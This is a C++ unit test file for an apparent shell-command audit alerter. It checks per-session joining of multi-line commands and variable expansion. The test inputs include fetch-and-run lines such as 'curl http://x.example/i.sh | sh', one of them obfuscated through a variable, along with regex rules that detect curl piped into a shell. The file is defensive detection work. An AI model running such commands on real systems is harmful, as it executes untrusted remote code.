// SPDX-License-Identifier: Apache-2.0
// The alerter over a stream of records: joined multi-line commands, per-session state.
#include "alerts.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

using shaudit::json::Object;

namespace {

class AlerterTest : public ::testing::Test {
 protected:
  void load(const std::string& yaml) {
    char tmpl[] = "/tmp/alerts_test_XXXXXX";
    int fd = ::mkstemp(tmpl);
    ASSERT_GE(fd, 0);
    ::close(fd);
    path_ = tmpl;
    std::ofstream(path_) << yaml;
    auto r = alerter_.load({path_});
    ASSERT_TRUE(r) << r.message();
  }
  void TearDown() override {
    if (!path_.empty()) ::unlink(path_.c_str());
  }
  // The names of the rules that fired on one record.
  std::vector<std::string> feed(const Object& rec) {
    std::vector<std::string> names;
    for (const auto& a : alerter_.evaluate(rec))
      names.push_back(*shaudit::json::get_string(a, "rule"));
    return names;
  }
  static Object line(const std::string& session, const std::string& command,
                     const std::string& text, bool continuation = false) {
    Object o{{"type", "command"}, {"session", session}, {"command", command},
             {"text", text},      {"user", "alice"},    {"pid", 42}};
    if (continuation) o["continuation"] = true;
    return o;
  }

  shaudit::daemon::Alerter alerter_{"host1"};
  std::string path_;
};

using V = std::vector<std::string>;

const char* kCurlRule = R"(
- rule: curl into sh
  condition: evt.type = command and cmd.text regex '(.|\n)*curl[^|]*\|\s*sh(.|\n)*'
  output: "%cmd.text"
  priority: WARNING
)";

TEST_F(AlerterTest, AFloodInOneSessionKeepsAnotherSessionsCommand) {
  load(kCurlRule);
  EXPECT_EQ(feed(line("bbbb", "b-1", "curl http://x.example/i.sh \\")), V{});
  // Session a: more than 4,096 commands, none of them ended.
  for (int i = 0; i < 5000; ++i)
    EXPECT_EQ(feed(line("aaaa", "a-" + std::to_string(i), "echo " + std::to_string(i))), V{});
  // Session b's second line still joins its first.
  EXPECT_EQ(feed(line("bbbb", "b-1", "| sh", true)), V{"curl into sh"});
}

TEST_F(AlerterTest, ASessionsEndForgetsItsCommands) {
  load(kCurlRule);
  EXPECT_EQ(feed(line("cccc", "c-1", "curl http://x.example/i.sh \\")), V{});
  EXPECT_EQ(feed(Object{{"type", "session_end"}, {"session", "cccc"}}), V{});
  // A stray continuation after the end is a line of its own.
  EXPECT_EQ(feed(line("cccc", "c-1", "| sh", true)), V{});
}

TEST_F(AlerterTest, AContinuationRunsOnlyRulesReadingTheText) {
  load(R"(
- rule: alice typed
  condition: evt.type = command and user.name = alice
  output: "%user.name"
  priority: NOTICE
- rule: curl into sh
  condition: evt.type = command and cmd.text regex '(.|\n)*curl[^|]*\|\s*sh(.|\n)*'
  output: "%cmd.text"
  priority: WARNING
)");
  EXPECT_EQ(feed(line("dddd", "d-1", "curl http://x.example/i.sh \\")), V{"alice typed"});
  EXPECT_EQ(feed(line("dddd", "d-1", "| sh", true)), V{"curl into sh"});  // alice typed: once
}

TEST_F(AlerterTest, EarlierAssignmentsOfTheSessionAreExpanded) {
  load(R"(
- rule: pipe into bash
  condition: evt.type = command and cmd.line regex '.*\|\s*bash\b.*'
  output: "%cmd.text"
  priority: WARNING
)");
  EXPECT_EQ(feed(line("eeee", "e-1", "a=ba")), V{});
  EXPECT_EQ(feed(line("ffff", "f-1", "a=z")), V{});  // another session's a
  EXPECT_EQ(feed(line("eeee", "e-2", "curl -s http://x | $a\"sh\"")), V{"pipe into bash"});
  EXPECT_EQ(feed(line("ffff", "f-2", "curl -s http://x | $a\"sh\"")), V{});
  EXPECT_EQ(feed(Object{{"type", "session_end"}, {"session", "eeee"}}), V{});
  EXPECT_EQ(feed(line("eeee", "e-3", "curl -s http://x | $a\"sh\"")), V{});  // forgotten
}

TEST_F(AlerterTest, AJoinedCommandKeepsItsLast128KiB) {
  load(kCurlRule);
  EXPECT_EQ(feed(line("gggg", "g-1", "echo \\")), V{});
  for (int i = 0; i < 300; ++i)
    EXPECT_EQ(feed(line("gggg", "g-1", std::string(1024, 'x') + " \\", true)), V{});
  EXPECT_EQ(feed(line("gggg", "g-1", "curl http://x.example/i.sh \\", true)), V{});
  EXPECT_EQ(feed(line("gggg", "g-1", "| sh", true)), V{"curl into sh"});
}

}  // namespace
